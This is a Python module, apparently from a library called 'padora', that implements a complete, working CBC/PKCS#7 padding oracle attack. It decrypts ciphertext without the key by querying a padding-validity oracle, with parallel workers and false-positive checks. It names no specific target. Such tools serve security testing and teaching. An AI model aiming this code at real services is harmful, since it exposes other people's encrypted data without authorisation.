"""
CBC/PKCS#7 Padding Oracle Cracker.

Recovers the plaintext of IV || C1 || ... || Cn without the key, using only
the oracle's "valid padding" / "invalid padding" answer.

To read block Ci, the previous block C(i-1) is modified so that the decryption
of Ci ends in a padding of length L. Bytes are recovered from the end of the
block towards its start, with L = B - pos:

    modified[k]   = original[k]   ^ plain[k] ^ L    for every k > pos
    modified[pos] = original[pos] ^ guess    ^ L

An accepted query means plain[pos] == guess.
"""

import logging
import threading
from concurrent.futures import ThreadPoolExecutor, as_completed
from contextlib import contextmanager
from typing import Callable, Optional

from padora.common.errors import CrackCancelled, InvalidInput, InvalidPadding, OracleInconsistency
from padora.common.utils import wipe
from padora.crypto.padding import MAX_BLOCK_SIZE, unpad

logger = logging.getLogger(__name__)

# (candidate ciphertext, block size) -> padding valid?
Oracle = Callable[[bytes, int], bool]
ProgressCallback = Callable[[int], None]

DEFAULT_PROGRESS_INTERVAL = 10_000


class _RunState:
    """
    Shared state of one crack run: the oracle call count, which is reported to
    the progress observer, and an abort flag for parallel runs.
    """

    def __init__(self, progress: Optional[ProgressCallback], interval: int):
        self._lock = threading.Lock()
        self._progress = progress
        self._interval = interval
        self.calls = 0
        self.abort = threading.Event()

    def increment(self):
        # Observer calls are serialized and see increasing counts
        with self._lock:
            self.calls += 1
            if self._progress is not None and self.calls % self._interval == 0:
                self._progress(self.calls)

    def finish(self):
        with self._lock:
            if self._progress is not None:
                self._progress(self.calls)


@contextmanager
def _block_window(working: bytearray, original: bytes, start: int, block_size: int):
    """
    Hands out the offset of the block in front of `start` for modification.

    On exit the block is restored from the original ciphertext: it is the
    target of the next (leftward) step and has to reach the oracle unmodified.
    """
    prev = start - block_size
    try:
        yield prev
    finally:
        working[prev:start] = original[prev:start]


class Cracker:
    """
    Runs padding oracle attacks against one oracle.

    Args:
        oracle: callable(candidate, block_size) -> bool.
        block_size: cipher block size in bytes (1..255).
        progress: called with the cumulative number of oracle calls every
            `progress_interval` calls and once at the end. With workers > 1
            it is called from worker threads, one call at a time and with
            increasing counts.
        cancel: a threading.Event; once set, the run stops with CrackCancelled.
        workers: number of blocks cracked at the same time.
        strict: raise OracleInconsistency instead of logging a warning when
            no guess is accepted outside the final block.
    """

    def __init__(
        self,
        oracle: Oracle,
        block_size: int,
        *,
        progress: Optional[ProgressCallback] = None,
        progress_interval: int = DEFAULT_PROGRESS_INTERVAL,
        cancel: Optional[threading.Event] = None,
        workers: int = 1,
        strict: bool = False
    ):
        if not 1 <= block_size <= MAX_BLOCK_SIZE:
            raise InvalidInput(f"Block size must be between 1 and {MAX_BLOCK_SIZE} bytes, got {block_size}.")
        if progress_interval < 1:
            raise ValueError("Progress interval must be at least 1.")
        if workers < 1:
            raise ValueError("At least one worker is needed.")

        self.oracle = oracle
        self.block_size = block_size
        self.progress = progress
        self.progress_interval = progress_interval
        self.cancel = cancel
        self.workers = workers
        self.strict = strict

    def crack(self, ciphertext: bytes) -> tuple[bytes, int]:
        """
        Recovers the plaintext of IV || encrypted blocks.

        Returns:
            A tuple of (plaintext, number of oracle calls).

        Raises:
            InvalidInput: the ciphertext length is not a positive multiple of
                the block size, or there are fewer than two blocks.
            OracleInconsistency: the recovered data does not unpad (or, in
                strict mode, a byte could not be recovered).
            CrackCancelled: the cancel event was set.
        """
        original = bytes(ciphertext)
        self._validate(original)

        bs = self.block_size
        state = _RunState(self.progress, self.progress_interval)
        recovered = bytearray(len(original) - bs)

        # From the last block down to the second one. Block 0 is the IV: it has
        # no predecessor to modify and holds no secret data.
        starts = range(len(original) - bs, bs - 1, -bs)

        try:
            if self.workers == 1:
                self._crack_sequential(original, starts, recovered, state)
            else:
                self._crack_parallel(original, starts, recovered, state)

            try:
                plaintext = unpad(recovered, bs)
            except InvalidPadding as e:
                raise OracleInconsistency("Recovered plaintext is not validly padded.") from e
        finally:
            wipe(recovered)

        state.finish()
        logger.info("Recovered %d bytes with %d oracle calls", len(plaintext), state.calls)
        return plaintext, state.calls

    def _validate(self, ciphertext: bytes):
        bs = self.block_size
        if len(ciphertext) == 0 or len(ciphertext) % bs != 0:
            raise InvalidInput(
                f"Ciphertext length {len(ciphertext)} is not a positive multiple of the block size {bs}."
            )
        if len(ciphertext) < 2 * bs:
            raise InvalidInput("Ciphertext must contain an IV and at least one data block.")

    def _crack_sequential(self, original: bytes, starts: range, recovered: bytearray, state: _RunState):
        bs = self.block_size
        working = bytearray(original)
        try:
            is_last = True
            for start in starts:
                recovered[start - bs:start] = self._crack_block(working, original, start, is_last, state)
                is_last = False
        finally:
            wipe(working)

    def _crack_parallel(self, original: bytes, starts: range, recovered: bytearray, state: _RunState):
        bs = self.block_size
        with ThreadPoolExecutor(max_workers=self.workers) as executor:
            futures = {}
            is_last = True
            for start in starts:
                futures[executor.submit(self._crack_block_copy, original, start, is_last, state)] = start
                is_last = False

            try:
                # The first failing block stops the others
                for future in as_completed(futures):
                    start = futures[future]
                    recovered[start - bs:start] = future.result()
            except BaseException:
                state.abort.set()
                for future in futures:
                    future.cancel()
                raise

    def _crack_block_copy(self, original: bytes, start: int, is_last: bool, state: _RunState) -> bytes:
        """Cracks one block on a private working copy that ends with the target block."""
        working = bytearray(original[:start + self.block_size])
        try:
            return self._crack_block(working, original, start, is_last, state)
        finally:
            wipe(working)

    def _crack_block(
        self,
        working: bytearray,
        original: bytes,
        start: int,
        is_last: bool,
        state: _RunState
    ) -> bytes:
        """Recovers the block at `start` by modifying the block in front of it."""
        bs = self.block_size
        end = start + bs
        cracked = bytearray(bs)

        with _block_window(working, original, start, bs) as prev:
            for pos in range(bs - 1, -1, -1):
                pad_len = bs - pos

                # 1. Make every already recovered byte decrypt to pad_len.
                for k in range(pos + 1, bs):
                    working[prev + k] = original[prev + k] ^ cracked[k] ^ pad_len

                # 2. Guess the current byte.
                cracked[pos] = self._guess_byte(working, original, prev, end, pos, pad_len, is_last, state)

        logger.debug("Cracked block at offset %d", start)
        return bytes(cracked)

    def _guess_byte(
        self,
        working: bytearray,
        original: bytes,
        prev: int,
        end: int,
        pos: int,
        pad_len: int,
        is_last: bool,
        state: _RunState
    ) -> int:
        index = prev + pos
        for guess in range(256):
            # In the final block this guess leaves the byte unmodified, and the
            # message's own padding can make the oracle accept it.
            if is_last and guess == pad_len:
                continue

            self._check_cancelled(state)

            working[index] = original[index] ^ guess ^ pad_len
            if not self._ask(working, end, state):
                continue

            # A 0x01 at the end may also come out as 0x02 0x02, 0x03 0x03 0x03, ...
            # Changing the byte in front of it tells the two apart.
            if pos > 0 and not self._confirm(working, index - 1, end, state):
                logger.debug("False positive 0x%02x at offset %d", guess, index)
                continue

            return guess

        self._no_guess_accepted(index, pad_len, is_last)
        return pad_len

    def _ask(self, working: bytearray, end: int, state: _RunState) -> bool:
        state.increment()
        return bool(self.oracle(bytes(working[:end]), self.block_size))

    def _confirm(self, working: bytearray, index: int, end: int, state: _RunState) -> bool:
        """Asks again with one bit of working[index] flipped."""
        saved = working[index]
        working[index] = saved ^ 0x01
        try:
            return self._ask(working, end, state)
        finally:
            working[index] = saved

    def _check_cancelled(self, state: _RunState):
        if state.abort.is_set() or (self.cancel is not None and self.cancel.is_set()):
            raise CrackCancelled(state.calls)

    def _no_guess_accepted(self, index: int, pad_len: int, is_last: bool):
        """
        Nothing was accepted, so the byte is taken to be pad_len.

        In the final block that is expected: the guess equal to pad_len is
        skipped there. Anywhere else every value has been tried, so the oracle
        or the ciphertext does not behave as assumed.
        """
        if is_last:
            logger.debug("Byte at offset %d equals the padding length %d", index, pad_len)
            return

        message = f"No guess accepted for the byte at offset {index} outside the final block."
        if self.strict:
            raise OracleInconsistency(message, index)
        logger.warning("%s Assuming 0x%02x.", message, pad_len)


def crack(ciphertext: bytes, block_size: int, oracle: Oracle, **options) -> tuple[bytes, int]:
    """
    Cracks IV || ciphertext with a padding oracle.

    Keyword options are passed to Cracker.

    Returns:
        A tuple of (plaintext, number of oracle calls).
    """
    return Cracker(oracle, block_size, **options).crack(ciphertext)
